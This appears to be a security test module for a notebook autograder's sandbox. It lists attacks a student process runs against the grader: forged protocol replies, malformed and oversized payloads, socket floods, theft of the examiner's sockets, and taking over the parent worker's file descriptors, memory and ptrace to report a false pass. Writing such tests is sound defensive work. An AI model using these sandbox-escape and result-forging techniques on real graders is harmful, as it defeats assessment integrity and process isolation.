"""Attacks across the wall: the student's process lies to the examiner, and to the worker that it shares a sandbox with.

They are written against the modules below; stock nbgrader has no wall, so there these notebooks are only wrong.
"""

import functools

from attacks.kit import Attempt, collection
from course_utils.grading.wall import agent, channel, peer

attacks, attack = collection("wall")
attack = functools.partial(attack, stock=False)

# Every call of a function is answered with the next of TREES and BUFFERS; CALLS counts.
FORGED = f"""
from {agent.__name__} import {agent.Agent.__name__} as Agent
honest, TREES, BUFFERS, CALLS = Agent.{agent.Agent.handle.__name__}, {{trees}}, {{buffers}}, []
def forged(self, op, fields, buffers):
    if op != "call":
        return honest(self, op, fields, buffers)
    CALLS.append(op)
    return TREES[len(CALLS) % len(TREES)], BUFFERS
Agent.{agent.Agent.handle.__name__} = forged"""

# The same, but bytes are written to the socket instead of an answer.
WRITTEN = f"""
import struct, time, json
from {peer.__name__} import {peer.Peer.__name__} as Peer
from {channel.__name__} import HEAD, SIZE
def written(self, message, received):
    end, turn, number = self.channel.end, self.turn, message["number"]
    end.settimeout(None)
    {{write}}
Peer.{peer.Peer._answer.__name__} = written"""


def _answers(it: Attempt, *values: str, buffers: str = "[]") -> None:
    it.cell(
        FORGED.format(
            trees="[" + ", ".join(f"{{'value': {value}}}" for value in values) + "]", buffers=buffers
        )
    )


def _writes(it: Attempt, line: str) -> None:
    it.cell(WRITTEN.format(write=line))


@attack("arrays of objects, of wrong sizes and of no size")
def forged_arrays(it: Attempt) -> None:
    arrays = ["'O', [1], 0", "'<f8', [10**15], 0", "'<f8', [-1], 0", "'<U9999999', [1], 0", "'V8', [1], 0"]
    _answers(it, *(f"{{'a': [{array}]}}" for array in arrays), buffers="[b'12345678']")


@attack("arrays that are true and false at once, or empty")
def forged_truths(it: Attempt) -> None:
    trees = [
        "{'a': ['|b1', [1], 0]}",
        "{'a': ['<f8', [0], 1]}",
        "{'n': ['<f8', [], 0]}",
        "{'T': ['bool', [1], 0, False]}",
    ]
    _answers(it, *trees, buffers="[bytes([7]), b'']")


@attack("dataclasses and types of the grader's own")
def forged_dataclasses(it: Attempt) -> None:
    own = ["'course_utils.grading.sandbox', 'Limits', {}",
           "'course_utils.grading.run_cell', 'TestRun', {'verdict': 'pass'}",
           "'course_utils.grading.worker', 'Kernel', {}", "'os', 'system', {'command': 'true'}"]  # fmt: skip
    _answers(it, *(f"{{'D': [{one}]}}" for one in own), "{'y': 'load'}")


@attack("references to what was never given, and to modules that do harm when they are imported")
def forged_modules(it: Attempt) -> None:
    names = ["test.__main__", "asyncio.__main__", "idlelib.__main__", "antigravity", "lib2to3.__main__"]
    _answers(it, *(f"{{'h': {{'kind': 'module', 'name': {name!r}}}}}" for name in names))


@attack("references with wrong numbers and names")
def forged_references(it: Attempt) -> None:
    things = [
        "'number': 10**30, 'name': '', 'type': 'int'",
        "'number': True, 'name': 5, 'type': []",
        "",
        "'number': -1, 'name': 'x' * 10**6, 'type': 'x'",
    ]
    _answers(it, *(f"{{'h': {{'kind': 'function', {thing}}}}}" for thing in things), "{'h': 7}")


@attack("numbers of a million digits, and ones that are none")
def forged_numbers(it: Attempt) -> None:
    _answers(
        it,
        "{'i': 'f' * 10**6}",
        "{'f': 'x'}",
        "{'c': [{'f': 'nan'}, 1]}",
        "{'r': [0, 10**18, 0]}",
        "{'i': '-0x'}",
    )


@attack("errors of every kind that mean something to Python")
def forged_errors(it: Attempt) -> None:
    kinds = [
        "StopIteration",
        "GeneratorExit",
        "KeyboardInterrupt",
        "SystemExit",
        "BaseExceptionGroup",
        "SyntaxError",
        "print",
    ]
    trees = ", ".join(f"{{'error': {{'type': {kind!r}, 'args': ['x', 5, None]}}}}" for kind in kinds)
    it.cell(FORGED.format(trees=f"[{trees}]", buffers="[]"))


@attack("a list of 50 million numbers")
def long_list(it: Attempt) -> None:
    _writes(it, """
    text = b'{"turn":%d,"answer":%d,"fields":{"value":{"l":[' % (turn, number) + b"1," * 50_000_000 + b'1]}}}'
    end.sendall(HEAD.pack(len(text), 0) + text)""")  # fmt: skip


@attack("JSON nested a hundred thousand deep")
def deep_answer(it: Attempt) -> None:
    _writes(it, """
    text = b'{"turn":%d,"answer":%d,"fields":{"value":' % (turn, number) + b'{"l":[' * 100_000 + b"]}" * 100_000 + b"}}"
    end.sendall(HEAD.pack(len(text), 0) + text)""")  # fmt: skip


@attack("a frame that is announced and comes a byte at a time")
def slow_frame(it: Attempt) -> None:
    _writes(it, """
    end.sendall(HEAD.pack(200_000_000, 0))
    for _ in range(1000):
        end.sendall(b" ")
        time.sleep(0.1)""")  # fmt: skip


@attack("no frames at all: noise")
def noise(it: Attempt) -> None:
    _writes(it, "end.sendall(os.urandom(1 << 20))")


@attack("answers without end to questions that nobody asked, of turns to come")
def flood(it: Attempt) -> None:
    _writes(it, """
    for n in range(200_000):
        text = json.dumps({"turn": turn + n % 3, "answer": number + 1 + n, "fields": {"value": 4}}).encode()
        end.sendall(HEAD.pack(len(text), 0) + text)""")  # fmt: skip


@attack("questions to the examiner instead of answers")
def questions(it: Attempt) -> None:
    _writes(it, """
    call = {"function": 0, "args": {"l": []}, "kwargs": {"d": []}}
    for op, fields in (("call_back", call), ("get", {"name": "known_wrong"})):
        text = json.dumps({"turn": turn, "ask": op, "number": 1, "fields": fields}).encode()
        end.sendall(HEAD.pack(len(text), 0) + text)
    keep(end.recv(10_000))""")  # fmt: skip


@attack("the examiner's socket closed, and read by a second thread")
def stolen_socket(it: Attempt) -> None:
    it.cell("""
import threading, time, stat
def steal():
    while True:
        for number in range(3, 60):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    got = os.read(number, 4096) if number % 2 else os.close(number)
                    keep(got)
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=steal, daemon=True).start()
time.sleep(0.5)""")


@attack("the worker's sockets taken over, to report what never was")
def worker_sockets(it: Attempt) -> None:
    it.cell(f"""
import ctypes, json, struct
from {channel.__name__} import HEAD
libc, parent = ctypes.CDLL(None), os.getppid()
text = json.dumps({{"ended": "ok", "outputs": [{{"output_type": "stream"}}], "seconds": 1}}).encode()
pidfd = libc.syscall(434, parent, 0)
for number in range(3, 40):
    taken = libc.syscall(438, pidfd, number, 0)
    if taken >= 0:
        keep('took', number)
        os.write(taken, HEAD.pack(len(text), 0) + text)
    try:
        with open(f'/proc/{{parent}}/fd/{{number}}', 'wb', 0) as other:
            other.write(HEAD.pack(len(text), 0) + text)
            keep('wrote', number)
    except OSError:
        pass
try:
    open(f'/proc/{{parent}}/mem', 'r+b').close()
    keep('memory of the worker')
except OSError:
    pass
keep('traced') if libc.ptrace(16, parent, 0, 0) == 0 else None""")


@attack("answers with a list that would be right if it were a number", earns=0)
def almost_right(it: Attempt) -> None:
    it.solution("double", "def double(x):\n    return [2 * x]")
    it.solution("mean", "def mean(numbers):\n    return str(sum(numbers) / len(numbers))")
    it.solution("vowels", "def vowels(word):\n    return {'vowels': 3}")
